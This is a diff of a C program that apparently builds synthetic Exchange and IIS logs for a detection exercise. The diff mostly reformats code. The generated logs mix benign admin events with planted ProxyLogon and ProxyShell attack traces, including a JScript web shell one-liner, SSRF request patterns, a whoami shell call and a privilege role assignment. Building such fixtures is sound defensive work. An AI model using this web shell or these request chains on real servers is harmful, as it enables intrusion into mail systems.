@@ -283,9 +283,9 @@ typedef struct member {
 } member;
 
 typedef struct out {
-    const char *root;   /* folder mode */
-    struct archive *a;  /* archive mode */
-    uint64_t total;     /* bytes of every member */
+    const char *root;  /* folder mode */
+    struct archive *a; /* archive mode */
+    uint64_t total;    /* bytes of every member */
     uint64_t files;
 } out;
 
@@ -407,31 +407,97 @@ static const layout layout_default = {"C/Program Files/Microsoft/Exchange Server
 static const layout layout_alt = {"E/Exchange/V15", "D/inetpub/logs/LogFiles", "E:\\Exchange\\V15"};
 
 /* HttpProxy protocol folders. */
-enum proto { P_NONE = -1, P_AUTODISCOVER, P_EAS, P_ECP, P_EWS, P_MAPI, P_OAB, P_OWA, P_POWERSHELL,
-             P_RPCHTTP, P__COUNT };
-static const char *const proto_dir[P__COUNT] = {"Autodiscover", "Eas", "Ecp", "Ews", "Mapi",
-                                                "Oab", "Owa", "PowerShell", "RpcHttp"};
+enum proto {
+    P_NONE = -1,
+    P_AUTODISCOVER,
+    P_EAS,
+    P_ECP,
+    P_EWS,
+    P_MAPI,
+    P_OAB,
+    P_OWA,
+    P_POWERSHELL,
+    P_RPCHTTP,
+    P__COUNT
+};
+static const char *const proto_dir[P__COUNT] = {
+    "Autodiscover", "Eas", "Ecp", "Ews", "Mapi", "Oab", "Owa", "PowerShell", "RpcHttp"};
 
 /* Catalogue 1.3: the 74 columns of build 15.01.2375.007 (unchanged in CU19). */
-static const char *const hp_fields[74] = {
-    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion",
-    "ClientRequestId", "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType",
-    "IsAuthenticated", "AuthenticatedUser", "Organization", "AnchorMailbox", "UserAgent",
-    "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus", "ErrorCode", "Method",
-    "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint",
-    "BackEndCookie", "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
-    "TargetOutstandingRequests", "AuthModulePerfContext", "HttpPipelineLatency",
-    "CalculateTargetBackEndLatency", "GlsLatencyBreakup", "TotalGlsLatency",
-    "AccountForestLatencyBreakup", "TotalAccountForestLatency", "ResourceForestLatencyBreakup",
-    "TotalResourceForestLatency", "ADLatency", "SharedCacheLatencyBreakup",
-    "TotalSharedCacheLatency", "ActivityContextLifeTime", "ModuleToHandlerSwitchingLatency",
-    "ClientReqStreamLatency", "BackendReqInitLatency", "BackendReqStreamLatency",
-    "BackendProcessingLatency", "BackendRespInitLatency", "BackendRespStreamLatency",
-    "ClientRespStreamLatency", "KerberosAuthHeaderLatency", "HandlerCompletionLatency",
-    "RequestHandlerLatency", "HandlerToModuleSwitchingLatency", "ProxyTime", "CoreLatency",
-    "RoutingLatency", "HttpProxyOverhead", "TotalRequestTime", "RouteRefresherLatency",
-    "UrlQuery", "BackEndGenericInfo", "GenericInfo", "GenericErrors", "EdgeTraceId",
-    "DatabaseGuid", "UserADObjectGuid", "PartitionEndpointLookupLatency", "RoutingStatus"};
+static const char *const hp_fields[74] = {"DateTime",
+                                          "RequestId",
+                                          "MajorVersion",
+                                          "MinorVersion",
+                                          "BuildVersion",
+                                          "RevisionVersion",
+                                          "ClientRequestId",
+                                          "Protocol",
+                                          "UrlHost",
+                                          "UrlStem",
+                                          "ProtocolAction",
+                                          "AuthenticationType",
+                                          "IsAuthenticated",
+                                          "AuthenticatedUser",
+                                          "Organization",
+                                          "AnchorMailbox",
+                                          "UserAgent",
+                                          "ClientIpAddress",
+                                          "ServerHostName",
+                                          "HttpStatus",
+                                          "BackEndStatus",
+                                          "ErrorCode",
+                                          "Method",
+                                          "ProxyAction",
+                                          "TargetServer",
+                                          "TargetServerVersion",
+                                          "RoutingType",
+                                          "RoutingHint",
+                                          "BackEndCookie",
+                                          "ServerLocatorHost",
+                                          "ServerLocatorLatency",
+                                          "RequestBytes",
+                                          "ResponseBytes",
+                                          "TargetOutstandingRequests",
+                                          "AuthModulePerfContext",
+                                          "HttpPipelineLatency",
+                                          "CalculateTargetBackEndLatency",
+                                          "GlsLatencyBreakup",
+                                          "TotalGlsLatency",
+                                          "AccountForestLatencyBreakup",
+                                          "TotalAccountForestLatency",
+                                          "ResourceForestLatencyBreakup",
+                                          "TotalResourceForestLatency",
+                                          "ADLatency",
+                                          "SharedCacheLatencyBreakup",
+                                          "TotalSharedCacheLatency",
+                                          "ActivityContextLifeTime",
+                                          "ModuleToHandlerSwitchingLatency",
+                                          "ClientReqStreamLatency",
+                                          "BackendReqInitLatency",
+                                          "BackendReqStreamLatency",
+                                          "BackendProcessingLatency",
+                                          "BackendRespInitLatency",
+                                          "BackendRespStreamLatency",
+                                          "ClientRespStreamLatency",
+                                          "KerberosAuthHeaderLatency",
+                                          "HandlerCompletionLatency",
+                                          "RequestHandlerLatency",
+                                          "HandlerToModuleSwitchingLatency",
+                                          "ProxyTime",
+                                          "CoreLatency",
+                                          "RoutingLatency",
+                                          "HttpProxyOverhead",
+                                          "TotalRequestTime",
+                                          "RouteRefresherLatency",
+                                          "UrlQuery",
+                                          "BackEndGenericInfo",
+                                          "GenericInfo",
+                                          "GenericErrors",
+                                          "EdgeTraceId",
+                                          "DatabaseGuid",
+                                          "UserADObjectGuid",
+                                          "PartitionEndpointLookupLatency",
+                                          "RoutingStatus"};
 
 static const char rps_http_fields[] =
     "DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
@@ -460,21 +526,43 @@ static const char rps_cmdlet_fields[] =
 
 /* IIS field sets. The default one is Exchange's (catalogue 1.7); the other is what an admin
  * who ticked more boxes gets, in IIS's own order, written mid-file when the site restarts. */
-enum w3f { W_DATE, W_TIME, W_SITENAME, W_COMPUTER, W_SIP, W_METHOD, W_STEM, W_QUERY, W_SPORT,
-           W_USER, W_CIP, W_VERSION, W_UA, W_REFERER, W_HOST, W_STATUS, W_SUBSTATUS, W_WIN32,
-           W_SCBYTES, W_CSBYTES, W_TAKEN, W__END };
+enum w3f {
+    W_DATE,
+    W_TIME,
+    W_SITENAME,
+    W_COMPUTER,
+    W_SIP,
+    W_METHOD,
+    W_STEM,
+    W_QUERY,
+    W_SPORT,
+    W_USER,
+    W_CIP,
+    W_VERSION,
+    W_UA,
+    W_REFERER,
+    W_HOST,
+    W_STATUS,
+    W_SUBSTATUS,
+    W_WIN32,
+    W_SCBYTES,
+    W_CSBYTES,
+    W_TAKEN,
+    W__END
+};
 static const char *const w3f_name[W__END] = {
-    "date", "time", "s-sitename", "s-computername", "s-ip", "cs-method", "cs-uri-stem",
-    "cs-uri-query", "s-port", "cs-username", "c-ip", "cs-version", "cs(User-Agent)",
-    "cs(Referer)", "cs-host", "sc-status", "sc-substatus", "sc-win32-status", "sc-bytes",
-    "cs-bytes", "time-taken"};
-static const int w3_default[] = {W_DATE, W_TIME, W_SIP, W_METHOD, W_STEM, W_QUERY, W_SPORT,
-                                 W_USER, W_CIP, W_UA, W_REFERER, W_STATUS, W_SUBSTATUS, W_WIN32,
-                                 W_TAKEN, W__END};
-static const int w3_extended[] = {W_DATE, W_TIME, W_SITENAME, W_COMPUTER, W_SIP, W_METHOD,
-                                  W_STEM, W_QUERY, W_SPORT, W_USER, W_CIP, W_VERSION, W_UA,
-                                  W_REFERER, W_HOST, W_STATUS, W_SUBSTATUS, W_WIN32, W_SCBYTES,
-                                  W_CSBYTES, W_TAKEN, W__END};
+    "date",      "time",         "s-sitename",      "s-computername", "s-ip",
+    "cs-method", "cs-uri-stem",  "cs-uri-query",    "s-port",         "cs-username",
+    "c-ip",      "cs-version",   "cs(User-Agent)",  "cs(Referer)",    "cs-host",
+    "sc-status", "sc-substatus", "sc-win32-status", "sc-bytes",       "cs-bytes",
+    "time-taken"};
+static const int w3_default[] = {W_DATE,      W_TIME,  W_SIP,   W_METHOD, W_STEM,    W_QUERY,
+                                 W_SPORT,     W_USER,  W_CIP,   W_UA,     W_REFERER, W_STATUS,
+                                 W_SUBSTATUS, W_WIN32, W_TAKEN, W__END};
+static const int w3_extended[] = {
+    W_DATE,      W_TIME,  W_SITENAME, W_COMPUTER, W_SIP,   W_METHOD,  W_STEM, W_QUERY,
+    W_SPORT,     W_USER,  W_CIP,      W_VERSION,  W_UA,    W_REFERER, W_HOST, W_STATUS,
+    W_SUBSTATUS, W_WIN32, W_SCBYTES,  W_CSBYTES,  W_TAKEN, W__END};
 
 /* ------------------------------------------------------------------------------------------ */
 /* Events: one web request (written to HttpProxy, W3SVC1 and W3SVC2 as it applies), or one    */
@@ -503,9 +591,9 @@ typedef struct ev {
     const char *referer;
     /* other logs: ECP S:CMD item / OAB message / cmdlet / Rps_Http query */
     const char *text;
-    const char *name;      /* cmdlet name; Rps_Http CommandName */
-    const char *client;    /* ClientApplication / ClientInfo */
-    const char *url;       /* ECP S:URL, NULL for none */
+    const char *name;   /* cmdlet name; Rps_Http CommandName */
+    const char *client; /* ClientApplication / ClientInfo */
+    const char *url;    /* ECP S:URL, NULL for none */
 } ev;
 
 /* ------------------------------------------------------------------------------------------ */
@@ -523,54 +611,98 @@ typedef struct ev {
 #define CANARY1 "kT4mQ9sWzE2xVb7nR1cY0hUjLpA3dF8gI6oN5eKqSwM."
 #define CANARY2 "Zp8cH2vN6tB0mXq4wJr7kYs1LdE9fGu3aIo5TyPjRlC."
 #define SSRF_PFX "ServerInfo~a]@" SERVER_FQDN ":444/"
-#define UA_CHROME_OLD "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.182 Safari/537.36"
-#define UA_CHROME105 "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36"
-#define WEBSHELL_JS "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"orange\"],\"unsafe\");}</script>"
+#define UA_CHROME_OLD                                                                              \
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "            \
+    "Chrome/88.0.4324.182 Safari/537.36"
+#define UA_CHROME105                                                                               \
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "            \
+    "Chrome/105.0.5195.54 Safari/537.36"
+#define WEBSHELL_JS                                                                                \
+    "<script language=\"JScript\" runat=\"server\">function "                                      \
+    "Page_Load(){eval(Request[\"orange\"],\"unsafe\");}</script>"
 #define OAB_ID "4f3c2b1a-9e8d-4c7b-a6f5-0e1d2c3b4a59"
 
 /* One step of the ProxyLogon chain: the carrier POST to /ecp/y.js on the front end, the SSRF
  * target in AnchorMailbox (HttpProxy/Ecp) and the request the back end saw. */
 #define PL_STEP(when_, host_, ua_, target_, bestem_, bequery_, status_)                            \
-    {.when = when_, .kind = EV_REQ, .planted = true, .dest = D_HP | D_FE | D_BE, .proto = P_ECP,   \
-     .method = "POST", .host = host_, .stem = "/ecp/y.js", .ua = ua_, .ip = A_PL, .auth = "",      \
-     .anchor = SSRF_PFX target_, .hint = "X-BEResource-Cookie", .status = status_,                 \
-     .be_stem = bestem_, .be_query = bequery_, .be_user = MACHINE_ACCOUNT, .be_status = status_}
+    {                                                                                              \
+        .when = when_, .kind = EV_REQ, .planted = true, .dest = D_HP | D_FE | D_BE,                \
+        .proto = P_ECP, .method = "POST", .host = host_, .stem = "/ecp/y.js", .ua = ua_,           \
+        .ip = A_PL, .auth = "", .anchor = SSRF_PFX target_, .hint = "X-BEResource-Cookie",         \
+        .status = status_, .be_stem = bestem_, .be_query = bequery_, .be_user = MACHINE_ACCOUNT,   \
+        .be_status = status_                                                                       \
+    }
 
 #define SHELL_GET(when_, ip_, stem_, query_, ua_, status_)                                         \
-    {.when = when_, .kind = EV_REQ, .planted = true, .dest = D_HP | D_FE, .proto = P_OWA,          \
-     .method = "GET", .host = "mail.contoso.test", .stem = stem_, .query = query_, .ua = ua_,      \
-     .ip = ip_, .auth = "", .status = status_}
+    {                                                                                              \
+        .when = when_, .kind = EV_REQ, .planted = true, .dest = D_HP | D_FE, .proto = P_OWA,       \
+        .method = "GET", .host = "mail.contoso.test", .stem = stem_, .query = query_, .ua = ua_,   \
+        .ip = ip_, .auth = "", .status = status_                                                   \
+    }
 
 static ev fixed[] = {
     /* --- benign, always present ------------------------------------------------------------ */
     /* An admin sets the OWA external URL in ECP (catalogue 8.3 negative). */
-    {.when = "2021-03-02T10:15:21.905Z", .kind = EV_REQ, .dest = D_HP | D_FE | D_BE,
-     .proto = P_ECP, .method = "POST", .host = "mail.contoso.test",
+    {.when = "2021-03-02T10:15:21.905Z",
+     .kind = EV_REQ,
+     .dest = D_HP | D_FE | D_BE,
+     .proto = P_ECP,
+     .method = "POST",
+     .host = "mail.contoso.test",
      .stem = "/ecp/DDI/DDIService.svc/SetObject",
-     .query = "schema=OwaVirtualDirectory&msExchEcpCanary=Vb1mXq4wJr7kYs2LdE9fGu3aIo5TyPjRlCZp8cH2vN6tB0.",
-     .ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.72 Safari/537.36 Edg/89.0.774.45",
-     .ip = "10.1.10.5", .user = "CONTOSO\\exadmin", .auth = "FBA", .anchor = "Sid~S-1-5-21-1004336348-1177238915-682003330-1107",
-     .hint = "Sid-Cookie", .status = 200, .referer = "https://mail.contoso.test/ecp/"},
-    {.when = "2021-03-02T10:15:22.481Z", .kind = EV_ECP,
-     .text = "'S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://mail.contoso.test/owa''.Identity=''" SERVER "\\owa (Default Web Site)'''",
-     .url = "/ecp/DDI/DDIService.svc/SetObject?schema=OwaVirtualDirectory&msExchEcpCanary=Vb1mXq4wJr7kYs2LdE9fGu3aIo5TyPjRlCZp8cH2vN6tB0."},
+     .query = "schema=OwaVirtualDirectory&msExchEcpCanary="
+              "Vb1mXq4wJr7kYs2LdE9fGu3aIo5TyPjRlCZp8cH2vN6tB0.",
+     .ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+           "Chrome/89.0.4389.72 Safari/537.36 Edg/89.0.774.45",
+     .ip = "10.1.10.5",
+     .user = "CONTOSO\\exadmin",
+     .auth = "FBA",
+     .anchor = "Sid~S-1-5-21-1004336348-1177238915-682003330-1107",
+     .hint = "Sid-Cookie",
+     .status = 200,
+     .referer = "https://mail.contoso.test/ecp/"},
+    {.when = "2021-03-02T10:15:22.481Z",
+     .kind = EV_ECP,
+     .text = "'S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://mail.contoso.test/"
+             "owa''.Identity=''" SERVER "\\owa (Default Web Site)'''",
+     .url = "/ecp/DDI/DDIService.svc/"
+            "SetObject?schema=OwaVirtualDirectory&msExchEcpCanary="
+            "Vb1mXq4wJr7kYs2LdE9fGu3aIo5TyPjRlCZp8cH2vN6tB0."},
     /* OAB generation writes to its own Temp folder: not the exploit (catalogue 2.3). */
-    {.when = "2021-03-02T02:00:14.310Z", .kind = EV_OAB,
-     .text = "Download failed and temporary file '%ROOT%\\ClientAccess\\OAB\\Temp\\" OAB_ID "\\data-1.lzx' needs to be removed."},
-    {.when = "2021-03-05T02:00:12.127Z", .kind = EV_OAB,
-     .text = "Download failed and temporary file '%ROOT%\\ClientAccess\\OAB\\Temp\\" OAB_ID "\\lng0409-1.lzx' needs to be removed."},
+    {.when = "2021-03-02T02:00:14.310Z",
+     .kind = EV_OAB,
+     .text = "Download failed and temporary file '%ROOT%\\ClientAccess\\OAB\\Temp\\" OAB_ID
+             "\\data-1.lzx' needs to be removed."},
+    {.when = "2021-03-05T02:00:12.127Z",
+     .kind = EV_OAB,
+     .text = "Download failed and temporary file '%ROOT%\\ClientAccess\\OAB\\Temp\\" OAB_ID
+             "\\lng0409-1.lzx' needs to be removed."},
     /* zgrab reads the Exchange version from the eDiscovery export tool manifest. */
-    {.when = "2021-03-04T11:47:32.435Z", .kind = EV_REQ, .dest = D_HP | D_FE | D_BE,
-     .proto = P_ECP, .method = "GET", .host = "203.0.113.10",
+    {.when = "2021-03-04T11:47:32.435Z",
+     .kind = EV_REQ,
+     .dest = D_HP | D_FE | D_BE,
+     .proto = P_ECP,
+     .method = "GET",
+     .host = "203.0.113.10",
      .stem = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
-     .ua = "Mozilla/5.0 zgrab/0.x", .ip = "198.51.100.140", .auth = "FBA",
-     .anchor = "ServerVersion~Version 15.0 (Build 0.0)", .hint = "EDiscoveryExportTool-ServerVersion",
+     .ua = "Mozilla/5.0 zgrab/0.x",
+     .ip = "198.51.100.140",
+     .auth = "FBA",
+     .anchor = "ServerVersion~Version 15.0 (Build 0.0)",
+     .hint = "EDiscoveryExportTool-ServerVersion",
      .status = 200},
-    {.when = "2021-03-06T23:05:09.618Z", .kind = EV_REQ, .dest = D_HP | D_FE | D_BE,
-     .proto = P_ECP, .method = "GET", .host = "203.0.113.10",
+    {.when = "2021-03-06T23:05:09.618Z",
+     .kind = EV_REQ,
+     .dest = D_HP | D_FE | D_BE,
+     .proto = P_ECP,
+     .method = "GET",
+     .host = "203.0.113.10",
      .stem = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
-     .ua = "Mozilla/5.0 zgrab/0.x", .ip = "198.51.100.141", .auth = "FBA",
-     .anchor = "ServerVersion~Version 15.0 (Build 0.0)", .hint = "EDiscoveryExportTool-ServerVersion",
+     .ua = "Mozilla/5.0 zgrab/0.x",
+     .ip = "198.51.100.141",
+     .auth = "FBA",
+     .anchor = "ServerVersion~Version 15.0 (Build 0.0)",
+     .hint = "EDiscoveryExportTool-ServerVersion",
      .status = 200},
 
     /* --- planted: ProxyLogon, actor 203.0.113.21, 2021-03-03 -------------------------------- */
@@ -582,20 +714,29 @@ static ev fixed[] = {
     PL_STEP("2021-03-03T06:49:46.210Z", "mail.contoso.test", UA_PYREQ, "ecp/proxyLogon.ecp?#",
             "/ecp/proxyLogon.ecp", NULL, 241),
     PL_STEP("2021-03-03T06:49:51.543Z", "mail.contoso.test", UA_PYREQ,
-            "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" CANARY1 "&schema=OABVirtualDirectory#",
+            "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" CANARY1
+            "&schema=OABVirtualDirectory#",
             "/ecp/DDI/DDIService.svc/GetObject",
             "msExchEcpCanary=" CANARY1 "&schema=OABVirtualDirectory", 200),
     PL_STEP("2021-03-03T06:49:53.698Z", "mail.contoso.test", UA_PYREQ,
-            "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY1 "&schema=OABVirtualDirectory#",
+            "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY1
+            "&schema=OABVirtualDirectory#",
             "/ecp/DDI/DDIService.svc/SetObject",
             "msExchEcpCanary=" CANARY1 "&schema=OABVirtualDirectory", 200),
     /* The ECP Server log of that SetObject: script in ExternalUrl, with S:URL after it. */
-    {.when = "2021-03-03T06:49:53.772Z", .kind = EV_ECP, .planted = true,
-     .text = "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/" WEBSHELL_JS "''.Identity=''" OAB_ID "'''",
-     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY1 "&schema=OABVirtualDirectory"},
-    {.when = "2021-03-03T06:49:58.835Z", .kind = EV_ECP, .planted = true,
+    {.when = "2021-03-03T06:49:53.772Z",
+     .kind = EV_ECP,
+     .planted = true,
+     .text = "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/" WEBSHELL_JS
+             "''.Identity=''" OAB_ID "'''",
+     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY1
+            "&schema=OABVirtualDirectory"},
+    {.when = "2021-03-03T06:49:58.835Z",
+     .kind = EV_ECP,
+     .planted = true,
      .text = "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''" OAB_ID "'''",
-     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY1 "&schema=OABVirtualDirectory"},
+     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY1
+            "&schema=OABVirtualDirectory"},
     /* Second session (HttpProxy/Ecp file with a duplicated column name): goes on to the reset. */
     PL_STEP("2021-03-03T07:12:10.817Z", "autodiscover.contoso.test", UA_ESC0,
             "autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", NULL, 200),
@@ -604,69 +745,144 @@ static ev fixed[] = {
     PL_STEP("2021-03-03T07:12:13.030Z", "autodiscover.contoso.test", UA_PYREQ,
             "ecp/proxyLogon.ecp?#", "/ecp/proxyLogon.ecp", NULL, 241),
     PL_STEP("2021-03-03T07:12:14.588Z", "autodiscover.contoso.test", UA_PYREQ,
-            "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" CANARY2 "&schema=OABVirtualDirectory#",
+            "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" CANARY2
+            "&schema=OABVirtualDirectory#",
             "/ecp/DDI/DDIService.svc/GetObject",
             "msExchEcpCanary=" CANARY2 "&schema=OABVirtualDirectory", 200),
     PL_STEP("2021-03-03T07:12:18.042Z", "autodiscover.contoso.test", UA_PYREQ,
-            "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2 "&schema=OABVirtualDirectory#",
+            "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
+            "&schema=OABVirtualDirectory#",
             "/ecp/DDI/DDIService.svc/SetObject",
             "msExchEcpCanary=" CANARY2 "&schema=OABVirtualDirectory", 200),
     /* The same cmdlet, logged without S:URL. */
-    {.when = "2021-03-03T07:12:17.960Z", .kind = EV_ECP, .planted = true,
-     .text = "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/" WEBSHELL_JS "''.Identity=''" OAB_ID "'''"},
+    {.when = "2021-03-03T07:12:17.960Z",
+     .kind = EV_ECP,
+     .planted = true,
+     .text = "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/" WEBSHELL_JS
+             "''.Identity=''" OAB_ID "'''"},
     PL_STEP("2021-03-03T07:12:20.359Z", "autodiscover.contoso.test", UA_PYREQ,
-            "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2 "&schema=ResetOABVirtualDirectory#",
+            "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
+            "&schema=ResetOABVirtualDirectory#",
             "/ecp/DDI/DDIService.svc/SetObject",
             "msExchEcpCanary=" CANARY2 "&schema=ResetOABVirtualDirectory", 200),
-    {.when = "2021-03-03T07:12:20.717Z", .kind = EV_ECP, .planted = true,
-     .text = "'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''" SERVER "\\OAB (Default Web Site)'''",
-     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2 "&schema=ResetOABVirtualDirectory"},
-    {.when = "2021-03-03T07:12:28.396Z", .kind = EV_ECP, .planted = true,
-     .text = "'S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Server=''" SERVER "''.Role=''ClientAccess''.InternalURL=''https://" SERVER_FQDN "/OAB''.Path=''%ROOT%\\FrontEnd\\HttpProxy\\OAB'''",
-     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2 "&schema=ResetOABVirtualDirectory"},
+    {.when = "2021-03-03T07:12:20.717Z",
+     .kind = EV_ECP,
+     .planted = true,
+     .text = "'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''" SERVER
+             "\\OAB (Default Web Site)'''",
+     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
+            "&schema=ResetOABVirtualDirectory"},
+    {.when = "2021-03-03T07:12:28.396Z",
+     .kind = EV_ECP,
+     .planted = true,
+     .text = "'S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Server=''" SERVER
+             "''.Role=''ClientAccess''.InternalURL=''https://" SERVER_FQDN
+             "/OAB''.Path=''%ROOT%\\FrontEnd\\HttpProxy\\OAB'''",
+     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
+            "&schema=ResetOABVirtualDirectory"},
     /* CVE-2021-26858: the OAB generator wrote outside its folder. */
-    {.when = "2021-03-03T07:14:03.117Z", .kind = EV_OAB, .planted = true,
-     .text = "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed."},
+    {.when = "2021-03-03T07:14:03.117Z",
+     .kind = EV_OAB,
+     .planted = true,
+     .text = "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' "
+             "needs to be removed."},
     /* China Chopper driven by antSword on the dropped file. */
-    {.when = "2021-03-03T07:15:10.000Z", .kind = EV_REQ, .planted = true, .dest = D_FE,
-     .method = "POST", .host = "mail.contoso.test", .stem = "/aspnet_client/x.aspx",
-     .ua = "antSword/v2.1", .ip = A_PL, .status = 200},
-    {.when = "2021-03-03T07:15:31.000Z", .kind = EV_REQ, .planted = true, .dest = D_FE,
-     .method = "POST", .host = "mail.contoso.test", .stem = "/aspnet_client/x.aspx",
-     .ua = "antSword/v2.1", .ip = A_PL, .status = 200},
+    {.when = "2021-03-03T07:15:10.000Z",
+     .kind = EV_REQ,
+     .planted = true,
+     .dest = D_FE,
+     .method = "POST",
+     .host = "mail.contoso.test",
+     .stem = "/aspnet_client/x.aspx",
+     .ua = "antSword/v2.1",
+     .ip = A_PL,
+     .status = 200},
+    {.when = "2021-03-03T07:15:31.000Z",
+     .kind = EV_REQ,
+     .planted = true,
+     .dest = D_FE,
+     .method = "POST",
+     .host = "mail.contoso.test",
+     .stem = "/aspnet_client/x.aspx",
+     .ua = "antSword/v2.1",
+     .ip = A_PL,
+     .status = 200},
     /* The shell written by the reset, asked to run whoami. */
-    SHELL_GET("2021-03-03T07:20:05.342Z", A_PL, "/owa/auth/errorEE.aspx", "cmd=whoami",
-              UA_PYREQ, 200),
+    SHELL_GET("2021-03-03T07:20:05.342Z", A_PL, "/owa/auth/errorEE.aspx", "cmd=whoami", UA_PYREQ,
+              200),
 
     /* --- planted: a scanner checks for ProxyLogon (Microsoft's nmap script), 2021-03-04 ----- */
-    {.when = "2021-03-04T10:41:11.464Z", .kind = EV_REQ, .planted = true, .dest = D_HP | D_FE,
-     .proto = P_OWA, .method = "GET", .host = "mail.contoso.test", .stem = "/owa/auth/x.js",
+    {.when = "2021-03-04T10:41:11.464Z",
+     .kind = EV_REQ,
+     .planted = true,
+     .dest = D_HP | D_FE,
+     .proto = P_OWA,
+     .method = "GET",
+     .host = "mail.contoso.test",
+     .stem = "/owa/auth/x.js",
      .ua = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
-     .ip = A_SCAN, .auth = "FBA", .anchor = "ServerInfo~localhost/ecp/default.flt?",
-     .hint = "X-AnonResource-Backend-Cookie", .status = 500},
+     .ip = A_SCAN,
+     .auth = "FBA",
+     .anchor = "ServerInfo~localhost/ecp/default.flt?",
+     .hint = "X-AnonResource-Backend-Cookie",
+     .status = 500},
 
     /* --- planted: ProxyShell, 2021-03-04 ---------------------------------------------------- */
-    {.when = "2021-03-04T14:02:11.000Z", .kind = EV_REQ, .planted = true, .dest = D_FE,
-     .method = "POST", .host = "mail.contoso.test", .stem = "/autodiscover/autodiscover.json",
+    {.when = "2021-03-04T14:02:11.000Z",
+     .kind = EV_REQ,
+     .planted = true,
+     .dest = D_FE,
+     .method = "POST",
+     .host = "mail.contoso.test",
+     .stem = "/autodiscover/autodiscover.json",
      .query = "@evil.test/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.test",
-     .ua = "python-requests/2.26.0", .ip = A_PS, .status = 401},
-    {.when = "2021-03-04T14:02:15.000Z", .kind = EV_REQ, .planted = true, .dest = D_FE,
-     .method = "POST", .host = "mail.contoso.test", .stem = "/autodiscover/autodiscover.json",
-     .query = "@evil.test/powershell/?X-Rps-CAT=%TOKEN%&Email=autodiscover/autodiscover.json%3F@evil.test",
-     .ua = "python-requests/2.26.0", .ip = A_PS, .status = 200},
-    {.when = "2021-03-04T14:02:15.913Z", .kind = EV_RPSHTTP, .planted = true,
-     .stem = "/Powershell", .user = "CONTOSO\\administrator", .ip = A_PS, .status = 200,
+     .ua = "python-requests/2.26.0",
+     .ip = A_PS,
+     .status = 401},
+    {.when = "2021-03-04T14:02:15.000Z",
+     .kind = EV_REQ,
+     .planted = true,
+     .dest = D_FE,
+     .method = "POST",
+     .host = "mail.contoso.test",
+     .stem = "/autodiscover/autodiscover.json",
+     .query = "@evil.test/powershell/?X-Rps-CAT=%TOKEN%&Email=autodiscover/"
+              "autodiscover.json%3F@evil.test",
+     .ua = "python-requests/2.26.0",
+     .ip = A_PS,
+     .status = 200},
+    {.when = "2021-03-04T14:02:15.913Z",
+     .kind = EV_RPSHTTP,
+     .planted = true,
+     .stem = "/Powershell",
+     .user = "CONTOSO\\administrator",
+     .ip = A_PS,
+     .status = 200,
      .text = "?X-Rps-CAT=%TOKEN%&Email=autodiscover/autodiscover.json%3F@evil.test",
-     .client = "Python PSRP Client", .name = "", .action = "Command"},
-    {.when = "2021-03-04T14:02:31.208Z", .kind = EV_CMDLET, .planted = true,
-     .user = "CONTOSO\\administrator", .name = "New-ManagementRoleAssignment",
-     .text = "-Role \"Mailbox Import Export\" -User \"administrator@contoso.test\"", .client = ""},
